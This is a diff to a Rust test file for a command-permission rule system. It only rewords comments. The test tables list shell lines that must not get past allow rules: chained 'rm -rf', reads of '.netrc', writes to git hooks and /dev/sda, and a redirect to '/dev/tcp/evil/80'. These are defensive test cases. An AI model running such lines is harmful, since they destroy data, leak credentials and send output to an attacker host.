@@ -1,12 +1,13 @@
-//! Command lines with the rules that must allow them, and those with rules that must not.
+//! Tests of command lines. Some lines must be allowed by the given rules, and others must not be
+//! allowed.
 
 use acp_lifecycle::rules::ArgvPrefix;
 use acp_lifecycle::{AcceptEditsPolicy, Effect, Effects, Matcher, Rule, RuleScope, Rules, Verdict};
 
 use crate::bypasses::allows;
 
-/// Rules, and a line that they must not allow, because a part of it is another command or an
-/// argument makes the program run one.
+/// Rules, and a line that the rules must not allow. A part of the line is another command, or an
+/// argument makes the program run another command.
 const FOREIGN: &[(&str, &str)] = &[
     // Another command somewhere in the line.
     ("cargo test", "cargo test; rm -rf x"),
@@ -28,7 +29,7 @@ const FOREIGN: &[(&str, &str)] = &[
     ("cargo test", "cargo test\u{2028}rm -rf x"),
     ("cargo test", "cargo test\u{a0}; rm -rf x"),
     ("cargo test, git status", "cargo test && git status && git push"),
-    // Another folder.
+    // A command that works in another folder.
     ("cd, cat", "cd / && cat etc/hosts"),
     ("cd, cat", "cd /home/other; cat notes"),
     ("cd, cat", "cd && cat .netrc"),
@@ -57,7 +58,7 @@ const FOREIGN: &[(&str, &str)] = &[
     ("cargo test", "./cargo test"),
     ("cargo test", "cargo -C /x test"),
     ("cargo test", "cargo --config x test"),
-    // Arguments of the program that are not in any table of harmful ones.
+    // Arguments of the program that are not in any table of harmful arguments.
     ("cargo test", "cargo test -- --logfile /etc/profile"),
     ("cargo test", "cargo test -- --debugger evil"),
     ("cargo clippy", "cargo clippy -- @file"),
@@ -359,8 +360,9 @@ const FOREIGN: &[(&str, &str)] = &[
     ("cat", "cat <<< $(rm x)"),
 ];
 
-/// Lines that write a file which a rule for `cargo test` does not allow, and the file that the call
-/// declares to write: the file itself, which only the policy could allow, or another one.
+/// Lines that write a file although a rule for `cargo test` does not allow it. The second element
+/// is the file that the call declares to write. The declared file is the written file, which only
+/// the policy could allow, or another file.
 const ELSEWHERE: &[(&str, &str)] = &[
     ("cargo test > /etc/x", "/etc/x"),
     ("cargo test >/etc/x", "/etc/x"),
@@ -370,7 +372,7 @@ const ELSEWHERE: &[(&str, &str)] = &[
     ("cargo test > .git/hooks/pre-commit", "/p/.git/hooks/pre-commit"),
     ("cargo test > /dev/sda", "/dev/sda"),
     ("cargo test > /dev/tcp/evil/80", "/dev/tcp/evil/80"),
-    // The policy allows the declared file, but another one is written.
+    // The policy allows the declared file, but the line writes another file.
     ("cargo test > x", "/p/y"),
     ("cargo test 2>&1 > x", "/p/y"),
     ("cargo test > /dev/null > x", "/p/y"),
@@ -392,7 +394,7 @@ const ELSEWHERE: &[(&str, &str)] = &[
     ("A=1 cargo test > x", "/p/x"),
 ];
 
-/// Lines that write the file that the call declares, which the policy allows.
+/// Lines that write the file that the call declares. The policy allows this file.
 const WRITTEN: &[(&str, &str)] = &[
     ("cargo test > x", "/p/x"),
     ("cargo test 2>&1 >> sub/x", "/p/sub/x"),
@@ -402,7 +404,7 @@ const WRITTEN: &[(&str, &str)] = &[
     ("cargo test > /dev/null 2> x", "/p/x"),
 ];
 
-/// Rules, and a line that they allow.
+/// Rules, and a line that these rules allow.
 const OWN: &[(&str, &str)] = &[
     ("cargo test", "cargo test"),
     ("cargo test", "cargo test -p x"),
@@ -455,7 +457,8 @@ fn no_line_is_allowed_by_rules_for_something_else() {
     assert!(through.is_empty(), "{through:#?}");
 }
 
-/// Whether a line that declares to write a file is allowed where edits in `/p` are.
+/// Returns whether a line is allowed if the call declares to write a file and edits in `/p` are
+/// allowed.
 fn may_write(line: &str, written: &str) -> bool {
     let mut rules = Rules::default();
     for words in ["cargo test", "cd"] {
@@ -474,7 +477,7 @@ fn output_goes_only_to_files_that_the_call_says_it_writes_and_may() {
     assert!(through.is_empty(), "{through:#?}");
     let asked: Vec<_> = WRITTEN.iter().filter(|(line, file)| !may_write(line, file)).collect();
     assert!(asked.is_empty(), "{asked:#?}");
-    // None of them is allowed without the declaration.
+    // Without the declaration, none of the lines is allowed.
     let unsaid = ELSEWHERE.iter().chain(WRITTEN).filter(|(line, _)| allows("cargo test, cd", line));
     assert_eq!(unsaid.count(), 0);
 }
@@ -483,7 +486,7 @@ fn output_goes_only_to_files_that_the_call_says_it_writes_and_may() {
 fn a_line_is_allowed_by_the_rules_for_each_of_its_commands() {
     let asked: Vec<_> = OWN.iter().filter(|(rules, line)| !allows(rules, line)).collect();
     assert!(asked.is_empty(), "{asked:#?}");
-    // Without any one of the rules, the line is not allowed.
+    // If any one of the rules is missing, the line is not allowed.
     for (rules, line) in OWN.iter().filter(|(rules, _)| rules.contains(", ")) {
         for left_out in rules.split(", ") {
             let rest: Vec<_> = rules.split(", ").filter(|rule| *rule != left_out).collect();
